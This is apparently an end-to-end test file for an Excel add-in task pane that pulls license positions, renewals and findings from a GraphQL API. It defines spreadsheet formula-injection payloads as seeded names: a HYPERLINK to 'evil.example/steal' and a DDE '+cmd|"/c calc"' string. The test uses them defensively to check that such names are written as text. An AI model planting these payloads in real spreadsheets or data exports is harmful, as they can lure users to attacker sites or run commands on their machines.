import { existsSync, mkdirSync } from 'node:fs';
import { fileURLToPath } from 'node:url';

import type { Browser, Page } from 'playwright-core';
import { build } from 'vite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { DEMO_ACCOUNTS, seedDemo, type DbHandle } from '@trueup/db';

import { launchChromium } from '../support/chromium.js';
import { insertEstate } from '../support/estate.js';
import { graphql } from '../support/graphql-client.js';
import { createTestDb } from '../support/test-db.js';
import { startTestApi } from '../support/test-server.js';

import { TaskpanePage } from './taskpane.page.js';

const TODAY = '2026-05-01';
const CDN = 'https://appsforoffice.microsoft.com/lib/1/hosted/';
const here = (path: string) => fileURLToPath(new URL(path, import.meta.url));
const BUILT_PANE = here('../../excel-addin/dist/addin/taskpane.html');
const OFFICE_JS_DIR = here('../../excel-addin/node_modules/@microsoft/office-js/dist/');
const SCREENSHOTS = here('../../tmp/screenshots/');
const HOSTILE_VA = '=HYPERLINK("http://evil.example/steal","Click me")';
const HOSTILE_LICENSE = '+cmd|"/c calc"!A1';

/** The fake Excel host, bundled for the page (it replaces office.js). */
async function bundleFakeHost(): Promise<string> {
  const result = await build({
    configFile: false,
    logLevel: 'silent',
    build: {
      write: false,
      minify: false,
      lib: { entry: here('./fake-office-host.ts'), formats: ['iife'], name: 'TrueupFakeHost' },
    },
  });
  const outputs = Array.isArray(result) ? result : [result];
  for (const out of outputs) {
    if ('output' in out) {
      const chunk = out.output.find((o) => o.type === 'chunk');
      if (chunk && 'code' in chunk) return chunk.code;
    }
  }
  throw new Error('could not bundle the fake Office host');
}

describe('task pane in Chromium against a real API', () => {
  let handle: DbHandle;
  let api: Awaited<ReturnType<typeof startTestApi>>;
  let browser: Browser;
  let fakeHost: string;

  beforeAll(async () => {
    expect(existsSync(BUILT_PANE), 'run `pnpm build` first: the test opens the built add-in').toBe(
      true,
    );
    handle = await createTestDb();
    await seedDemo(handle, { preset: 'small', referenceDate: TODAY });
    await insertEstate(handle.db, {
      domain: 'hostile.example',
      virtualAccounts: [{ name: HOSTILE_VA }],
      licenses: [{ name: HOSTILE_LICENSE, productFamily: '@SUM(1)' }],
      lots: [
        {
          va: 0,
          license: 0,
          quantity: 2,
          licenseType: 'PERPETUAL',
          startDate: '2025-01-01',
          endDate: null,
          source: 'SMART',
        },
      ],
      instances: [],
      usage: [{ va: 0, license: 0, instance: null, quantity: 5, asOf: '2026-04-01' }],
      reservations: [],
    });
    api = await startTestApi(handle, TODAY);
    fakeHost = await bundleFakeHost();
    browser = await launchChromium();
  });

  afterAll(async () => {
    await browser?.close();
    await api?.close();
    await handle?.close();
  });

  /** A page on the served task pane, office.js replaced by `officeJs`. */
  async function openPane(officeJs: 'fake' | 'real'): Promise<{ page: Page; pane: TaskpanePage }> {
    const page = await browser.newPage({ viewport: { width: 360, height: 900 } });
    await page.route(`${CDN}**`, async (route) => {
      if (officeJs === 'fake') {
        await route.fulfill({ contentType: 'text/javascript', body: fakeHost });
        return;
      }
      const file = route.request().url().slice(CDN.length).split('?')[0] ?? '';
      const path = `${OFFICE_JS_DIR}${file}`;
      if (existsSync(path)) await route.fulfill({ path });
      else await route.fulfill({ status: 404, body: '' });
    });
    await page.goto(`${api.url}/addin/taskpane.html`);
    return { page, pane: new TaskpanePage(page) };
  }

  it('pulls positions into a Positions table holding exactly the API numbers', async () => {
    const { page, pane } = await openPane('fake');
    const domain = DEMO_ACCOUNTS.small.domain;
    await pane.connect(api.adminToken);
    await pane.chooseAccount(domain, TODAY);
    const status = await pane.act('#pull-positions', /^Pulled/);
    expect(status).toMatch(/^Pulled \d[\d,]* position lines as of 2026-05-01 into Positions\.$/);

    mkdirSync(SCREENSHOTS, { recursive: true });
    await page.screenshot({ path: `${SCREENSHOTS}taskpane.png`, fullPage: true });

    const expected = await graphql<{
      smartAccount: {
        positionRows: {
          nodes: {
            virtualAccountName: string;
            licenseName: string;
            productFamily: string | null;
            // GraphQL BigInt: strings of digits; the sheet holds them as numbers.
            owned: string;
            consumed: string;
            reserved: string;
            balance: string;
            shortfall: string;
            surplus: string;
            unitPrice: string | null;
            exposure: string | null;
            currency: string | null;
            billing: string;
            usageReportedAt: string | null;
          }[];
        };
      };
    }>(
      api.graphqlUrl,
      `query($d: String!) { smartAccount(domain: $d) { positionRows(asOf: "${TODAY}", first: 5000) {
        nodes { virtualAccountName licenseName productFamily owned consumed reserved
          balance shortfall surplus unitPrice exposure currency billing usageReportedAt } } } }`,
      { d: domain },
    );
    const lines = expected.data?.smartAccount.positionRows.nodes ?? [];
    expect(lines.length).toBeGreaterThan(5);
    const grid = await pane.grid('Positions');
    expect(grid[0]).toEqual([
      'Virtual Account',
      'License',
      'Product family',
      'Owned',
      'Consumed',
      'Reserved',
      'Balance',
      'Shortfall',
      'Surplus',
      'Unit price',
      'Currency',
      'Exposure',
      'Billing',
      'Usage reported',
    ]);
    expect(grid.slice(1)).toEqual(
      lines.map((l) => [
        l.virtualAccountName,
        l.licenseName,
        l.productFamily ?? '',
        Number(l.owned),
        Number(l.consumed),
        Number(l.reserved),
        Number(l.balance),
        Number(l.shortfall),
        Number(l.surplus),
        l.unitPrice === null ? '' : Number(l.unitPrice),
        l.currency ?? '',
        l.exposure === null ? '' : Number(l.exposure),
        l.billing,
        l.usageReportedAt ?? 'not reported',
      ]),
    );
    expect(lines.some((l) => Number(l.shortfall) > 0)).toBe(true);

    // The chart's data sums the Positions table with formulas, one row per Virtual Account.
    const chart = await pane.grid('Shortfall by VA', 'formulas');
    expect(chart.slice(1).map((r) => r[0])).toEqual(
      [...new Set(lines.map((l) => l.virtualAccountName))].sort((a, b) => a.localeCompare(b)),
    );
    expect(String(chart[1]?.[1])).toMatch(/^=SUMIFS\(Positions\[Shortfall\]/);

    // Renewal: inputs are the API's parameters, the figures are live formulas.
    expect(await pane.act('#pull-renewal', /^Renewal/)).toMatch(/^Renewal as of 2026-05-01 in /);
    const renewal = await graphql<{
      smartAccount: { renewalModel: { currency: string; parameters: Record<string, number> } };
    }>(
      api.graphqlUrl,
      `query($d: String!) { smartAccount(domain: $d) { renewalModel(input: { asOf: "${TODAY}" }) {
        currency parameters { termYears growthBasisPoints } } } }`,
      { d: domain },
    );
    const model = renewal.data?.smartAccount.renewalModel;
    const sheet = await pane.grid('Renewal', 'formulas');
    expect(sheet.slice(0, 3).map((r) => r.slice(0, 2))).toEqual([
      ['Currency', model?.currency],
      ['Term (years, 3 or 5)', model?.parameters.termYears],
      ['Growth per year', (model?.parameters.growthBasisPoints ?? 0) / 10_000],
    ]);
    expect(sheet.flat().filter((c) => String(c).startsWith('=')).length).toBeGreaterThan(10);
    expect((await pane.grid('Renewal detail', 'formulas')).length).toBeGreaterThan(1);

    // Findings: the API's findings, most urgent first.
    expect(await pane.act('#pull-findings', /^Pulled \d+ finding/)).toMatch(/finding\(s\)/);
    const findings = await graphql<{
      smartAccount: { findings: { nodes: { code: string; message: string }[] } };
    }>(
      api.graphqlUrl,
      `query($d: String!) { smartAccount(domain: $d) { findings(asOf: "${TODAY}", first: 500) {
        nodes { code message } } } }`,
      { d: domain },
    );
    const findingsGrid = await pane.grid('Findings');
    expect(findingsGrid.slice(1).map((r) => [r[1], r[7]])).toEqual(
      findings.data?.smartAccount.findings.nodes.map((f) => [f.code, f.message]),
    );
    await page.close();
  });

  it('refuses Apply clearly for a token that may not apply (an analyst), and nothing moves', async () => {
    const domain = DEMO_ACCOUNTS.small.domain;
    const { token } = await api.services.access.create({
      role: 'ANALYST',
      smartAccounts: [domain],
      name: `analyst-${Date.now()}`,
    });
    const { page, pane } = await openPane('fake');
    await pane.connect(token);
    await pane.chooseAccount(domain, TODAY);
    expect(await pane.act('#suggest', /^Suggested/)).toMatch(/^Suggested [1-9]/);
    const before = await api.services.reallocation.list(
      (await api.services.accounts.requireSmartAccount(domain)).id,
      ['APPLIED'],
    );
    await page.click('#apply');
    await page.waitForSelector('#confirm:not([hidden])');
    await page.click('#confirm-yes');
    await page.waitForSelector('#error:not([hidden])', { timeout: 60_000 });
    expect(await page.textContent('#error')).toBe(
      'Your token’s role does not allow this change. Ask for an admin token to apply changes.',
    );
    expect(await page.textContent('#status')).toBe('');
    const after = await api.services.reallocation.list(
      (await api.services.accounts.requireSmartAccount(domain)).id,
      ['APPLIED'],
    );
    expect(after).toHaveLength(before.length);
    await page.close();
  });

  it('suggests moves, evaluates them to the API numbers, and applies them after confirmation', async () => {
    const { page, pane } = await openPane('fake');
    const domain = DEMO_ACCOUNTS.small.domain;
    await pane.connect(api.adminToken);
    await pane.chooseAccount(domain, TODAY);

    const suggested = await pane.act('#suggest', /^Suggested/);
    expect(suggested).toMatch(/^Suggested [1-9]\d* move\(s\) curing \d+ of \d+ curable units/);
    const plan = await graphql<{
      suggestReallocation: {
        moves: { license: string; quantity: number; from: string; to: string }[];
      };
    }>(
      api.graphqlUrl,
      `query($d: String!) { suggestReallocation(smartAccount: $d, asOf: "${TODAY}") {
        moves { license quantity from to } } }`,
      { d: domain },
    );
    const moves = plan.data?.suggestReallocation.moves ?? [];
    const movesGrid = await pane.grid('Moves');
    expect(movesGrid[0]).toEqual(['License', 'Quantity', 'From', 'To']);
    expect(movesGrid.slice(1, 1 + moves.length)).toEqual(
      moves.map((m) => [m.license, m.quantity, m.from, m.to]),
    );

    expect(await pane.act('#evaluate', /^(Evaluated|Not feasible)/)).toMatch(/^Evaluated/);
    const simulation = await graphql<{
      simulateReallocation: {
        shortfallChange: string;
        lines: {
          virtualAccountName: string;
          licenseName: string;
          before: Record<string, string>;
          after: Record<string, string>;
        }[];
      };
    }>(
      api.graphqlUrl,
      `query($d: String!, $m: [ReallocationMoveInput!]!) {
        simulateReallocation(smartAccount: $d, asOf: "${TODAY}", moves: $m) { shortfallChange
          lines { virtualAccountName licenseName
            before { owned consumed balance shortfall surplus } after { owned consumed balance shortfall surplus } } } }`,
      { d: domain, m: moves },
    );
    const result = simulation.data?.simulateReallocation;
    expect(Number(result?.shortfallChange)).toBeLessThan(0);
    const whatIf = await pane.grid('What-if');
    expect(whatIf[2]?.slice(0, 2)).toEqual(['Shortfall change', Number(result?.shortfallChange)]);
    const fields = ['owned', 'consumed', 'balance', 'shortfall', 'surplus'];
    expect(whatIf.slice(9)).toEqual(
      (result?.lines ?? []).map((l) => [
        l.virtualAccountName,
        l.licenseName,
        ...fields.flatMap((f) => [Number(l.before[f]), Number(l.after[f])]),
      ]),
    );

    // Apply asks first; Cancel changes nothing, Apply records the transfers.
    await page.click('#apply');
    await page.waitForSelector('#confirm:not([hidden])');
    expect(await page.textContent('#confirm-text')).toMatch(
      new RegExp(
        `^Apply ${moves.length} move\\(s\\) \\(\\d+ licenses\\) to ${domain.replaceAll('.', '\\.')}\\?`,
      ),
    );
    await page.screenshot({ path: `${SCREENSHOTS}taskpane-apply.png`, fullPage: true });
    await page.click('#confirm-no');
    await page.waitForFunction(() =>
      /^Apply cancelled/.test(document.querySelector('#status')?.textContent ?? ''),
    );
    await page.click('#apply');
    await page.waitForSelector('#confirm:not([hidden])');
    await page.click('#confirm-yes');
    await page.waitForFunction(
      () => /^(Applied|$)/.test(document.querySelector('#status')?.textContent ?? 'x'),
      undefined,
      { timeout: 60_000 },
    );
    expect(await page.textContent('#status')).toMatch(/^Applied: [1-9]\d* transfer\(s\) recorded/);
    const after = await graphql<{ simulateReallocation: { shortfallChange: string } }>(
      api.graphqlUrl,
      `query($d: String!, $m: [ReallocationMoveInput!]!) {
        simulateReallocation(smartAccount: $d, asOf: "${TODAY}", moves: $m) { shortfallChange } }`,
      { d: domain, m: moves },
    );
    // The surplus moved: the same moves again no longer cure what they cured.
    expect(Number(after.data?.simulateReallocation.shortfallChange ?? 0)).toBeGreaterThan(
      Number(result?.shortfallChange ?? 0),
    );
    await page.close();
  });

  it('writes names that look like formulas as text', async () => {
    const { page, pane } = await openPane('fake');
    await pane.connect(api.adminToken);
    await pane.chooseAccount('hostile.example', TODAY);
    await pane.act('#pull-positions', /^Pulled/);
    const grid = await pane.grid('Positions', 'formulas');
    expect(grid[1]?.slice(0, 5)).toEqual([HOSTILE_VA, HOSTILE_LICENSE, '@SUM(1)', 2, 5]);
    await page.close();
  });

  it('boots on the real office.js (local copy) and says to open it in Excel', async () => {
    const { page } = await openPane('real');
    await page.waitForSelector('#outside-office:not([hidden])', { timeout: 30_000 });
    expect(await page.textContent('#outside-office')).toMatch(/Open this page from Excel/);
    await page.close();
  });
});
